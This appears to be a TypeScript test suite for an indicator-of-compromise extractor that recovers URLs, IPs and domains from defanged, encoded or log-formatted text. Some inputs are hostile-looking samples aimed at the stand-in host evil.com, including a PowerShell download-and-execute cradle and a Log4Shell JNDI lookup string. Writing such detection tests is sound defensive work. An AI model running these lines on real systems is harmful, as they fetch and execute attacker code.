import { testFinds } from './test-finds.ts';

const { raw } = String;
testFinds('URLs are found, and end where a person would end them', [
  ['hxxp://evil[.]com/x', 'url http://evil.com/x'],
  ['hXXp://evil[.]com/x HXXP://EVIL[.]COM/x', 'url http://evil.com/x · url http://evil.com/x'],
  ['hxxp[:]//evil[.]com/x', 'url http://evil.com/x'],
  ['hxxp[://]evil[.]com/x', 'url http://evil.com/x'],
  ['hxxp[:/]/evil[.]com/x', 'url http://evil.com/x'],
  ['http[:]//evil.com/x', 'url http://evil.com/x'],
  ['http(:)//evil.com/x', 'url http://evil.com/x'],
  ['hxxp:// evil[.]com/x', 'url http://evil.com/x'],
  ['h**p://evil.com/x', 'url http://evil.com/x'],
  ['hxxp://evil(.)com(/)x', 'url http://evil.com/x'],
  ['hxxp://evil[.]com[:]8080/x', 'url http://evil.com:8080/x'],
  ['hxxp://evil[.]com[/]x', 'url http://evil.com/x'],
  ['hxxp://www[.]evil[.]com/index[.]php?id=1', 'url http://www.evil.com/index.php?id=1'],
  ['tcp://45.77.12[.]34:4444', 'url tcp://45.77.12.34:4444'],
  ['stratum+tcp://pool.evil.com:3333', 'url stratum+tcp://pool.evil.com:3333'],
  ['${jndi:ldap://evil.com:1389/a}', 'url ldap://evil.com:1389/a'],
  [
    'http://evil.com/x. http://evil.com/x, http://evil.com/x; http://evil.com/x: http://evil.com/x! http://evil.com/x?',
    'url http://evil.com/x · url http://evil.com/x · url http://evil.com/x · url http://evil.com/x · url http://evil.com/x · url http://evil.com/x',
  ],
  [
    '(http://evil.com/x) [http://evil.com/x] <http://evil.com/x> "http://evil.com/x" \'http://evil.com/x\'',
    'url http://evil.com/x · url http://evil.com/x · url http://evil.com/x · url http://evil.com/x · url http://evil.com/x',
  ],
  [
    '`http://evil.com/x` “http://evil.com/x” «http://evil.com/x» |http://evil.com/x| **http://evil.com/x**',
    'url http://evil.com/x · url http://evil.com/x · url http://evil.com/x · url http://evil.com/x · url http://evil.com/x',
  ],
  ['http://evil.com/x... http://evil.com/x…', 'url http://evil.com/x · url http://evil.com/x'],
  [
    '下载地址：http://evil.com/x，请勿访问。http://evil.com/x。「http://evil.com/x」',
    'url http://evil.com/x · url http://evil.com/x · url http://evil.com/x',
  ],
  ['(see http://evil.com/foo_(bar))', 'url http://evil.com/foo_(bar)'],
  [
    '[text](http://evil.com/x "title") ![](http://evil.com/x)',
    'url http://evil.com/x · url http://evil.com/x',
  ],
  [
    "<a href='http://evil.com/x'>http://evil.com/x</a>",
    'url http://evil.com/x · url http://evil.com/x',
  ],
  ['<img src=http://evil.com/x>', 'url http://evil.com/x'],
  ['background:url(http://evil.com/x);', 'url http://evil.com/x'],
  ['link:http://evil.com/x[text^]', 'url http://evil.com/x'],
  ['`+http://evil[.]com/x+`', 'url http://evil.com/x'],
  ['[url=http://evil.com/x]x[/url]', 'url http://evil.com/x'],
  [
    '[http://evil.com/x label] [[http://evil.com/x|label]]',
    'url http://evil.com/x · url http://evil.com/x',
  ],
  [raw`{"u":"http:\/\/evil.com\/x"}`, 'url http://evil.com/x'],
  [raw`"see http://evil.com/x\nand"`, 'url http://evil.com/x'],
  [raw`{\"u\":\"http://evil.com/x\"}`, 'url http://evil.com/x'],
  [raw`\u003ca href=\u0022http://evil.com/x\u0022\u003e`, 'url http://evil.com/x'],
  [
    '&lt;http://evil.com/x&gt; &quot;http://evil.com/x&quot;',
    'url http://evil.com/x · url http://evil.com/x',
  ],
  ['&lt;a href=&quot;http://evil.com/?a=1&amp;b=2&quot;&gt;', 'url http://evil.com/?a=1&b=2'],
  ['fetch("http://evil.com/x").then(r => r)', 'url http://evil.com/x'],
  ["IEX (New-Object Net.WebClient).DownloadString('http://evil.com/x');", 'url http://evil.com/x'],
  ['http://evil.com?x=1 http://evil.com#x', 'url http://evil.com?x=1 · url http://evil.com#x'],
  [
    '45.77.12.34/x.sh and 45.77.12.34:8080/x.sh',
    'url 45.77.12.34/x.sh · url 45.77.12.34:8080/x.sh',
  ],
  ['evil.com:8080/x evil[.]com/gate.php', 'url evil.com:8080/x · url evil.com/gate.php'],
  [
    'https://www.google.com/url?q=https://evil.com/x&sa=D',
    'url https://www.google.com/url?q=https://evil.com/x&sa=D',
  ],
  [
    'https://web.archive.org/web/2020/http://evil.com/x',
    'url https://web.archive.org/web/2020/http://evil.com/x',
  ],
  [
    'https://nam02.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.com%2Fx&data=05%7C01',
    'url https://nam02.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.com%2Fx&data=05%7C01',
  ],
  [
    'https://urldefense.com/v3/__https://evil.com/x__;!!abc$ .',
    'url https://urldefense.com/v3/__https://evil.com/x__;!!abc$',
  ],
  [
    'https://evil.com/login?email=joe%40corp.com',
    'url https://evil.com/login?email=joe%40corp.com',
  ],
  ['http://evil.com@google.com/x', 'url http://evil.com@google.com/x'],
  ['http://[2001:db8::1]:8080/x.', 'url http://[2001:db8::1]:8080/x'],
  ['http://bücher.de/a', 'url http://xn--bcher-kva.de/a'],
  ['HTTP://EVIL.COM/Path', 'url http://evil.com/Path'],
  [
    'http://evil.com/~joe/ http://evil.com/a;b=1 http://evil.com/a,b.html http://evil.com/a+b/',
    'url http://evil.com/~joe/ · url http://evil.com/a;b=1 · url http://evil.com/a,b.html · url http://evil.com/a+b/',
  ],
  ['http://evil.com/a%20b.exe', 'url http://evil.com/a%20b.exe'],
  ['view-source:http://evil.com/x', 'url http://evil.com/x'],
  [
    'User-Agent: Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    'url http://www.google.com/bot.html',
  ],
  [
    '1697104501.123 45 10.0.0.5 TCP_MISS/200 1234 GET http://evil.com/x - DIRECT/45.77.12.34 text/html',
    'ipv4 10.0.0.5 · url http://evil.com/x · ipv4 45.77.12.34',
  ],
  [
    '185.220.101.34 - - [10/Oct/2023:13:55:36 +0000] "GET / HTTP/1.1" 200 2326 "http://evil.com/x" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36"',
    'ipv4 185.220.101.34 · url http://evil.com/x',
  ],
  ['URL=http://evil.com/x', 'url http://evil.com/x'],
  [
    'url,seen\nhttp://evil.com/x,2023-10-12\n"http://evil.com/x",2023-10-12\n',
    'url http://evil.com/x · url http://evil.com/x',
  ],
  ['http://evil.com/x\thttp://evil.com/x\r\n', 'url http://evil.com/x · url http://evil.com/x'],
  ['postgres://user:pass@db.evil.com:5432/x', 'url postgres://user:pass@db.evil.com:5432/x'],
  ['ftp://user:pa55@ftp.evil.com/x', 'url ftp://user:pa55@ftp.evil.com/x'],
  [
    'https://t.me/evil_bot https://discord.com/api/webhooks/123/abc-DEF_x',
    'url https://t.me/evil_bot · url https://discord.com/api/webhooks/123/abc-DEF_x',
  ],
  ['http://evil.com/x]', 'url http://evil.com/x'],
  ['http://evil.com/x}', 'url http://evil.com/x'],
  ['{"a":"http://evil.com/x"}', 'url http://evil.com/x'],
  ['http://evil.com/x</loc>', 'url http://evil.com/x'],
  [
    'List-Unsubscribe: <http://evil.com/x>, <mailto:u@evil.com>',
    'url http://evil.com/x · email u@evil.com',
  ],
  ['http://evil.com/?a={b}&c=[d]', 'url http://evil.com/?a={b}&c=[d]'],
  ['hxxps://evil[.]com/a?u=hxxps://evil[.]net/b', 'url https://evil.com/a?u=https://evil.net/b'],
  ['http://evil.com:80/x', 'url http://evil.com:80/x'],
  ['http://xyz.duckdns[.]org:8000/x', 'url http://xyz.duckdns.org:8000/x'],
  ['http://expyuzz4wqqyqhjn.onion/x', 'url http://expyuzz4wqqyqhjn.onion/x'],
  ['https://evil.zip/x', 'url https://evil.zip/x'],
  ['https://evil.com/x%0a%0d', 'url https://evil.com/x%0a%0d'],
  [
    '$u = "http://evil.com/x" ; (nw "http://evil.com/x")',
    'url http://evil.com/x · url http://evil.com/x',
  ],
  ['http://evil.com/x* and http://evil.com/x_', 'url http://evil.com/x · url http://evil.com/x_'],
  [
    '\ufeffevil.com \u202aevil.com\u202c \u2066evil.com\u2069 🔥evil.com🔥 （evil.com） 【http://evil.com/x】',
    'domain evil.com · domain evil.com · domain evil.com · domain evil.com · domain evil.com · url http://evil.com/x',
  ],
  [
    'https：／／evil.com／x hxxps：//evil[.]com/x',
    'url https://evil.com/x · url https://evil.com/x',
  ],
]);

testFinds('what is no URL is not found', [
  ['f"http://{host}/x" http://<c2>/gate http://%s/%s https://www. http://', ''],
  ['data:text/html;base64,PHNjcmlwdD4= javascript:alert(1) about:blank tel:+1-202-555-0123', ''],
]);
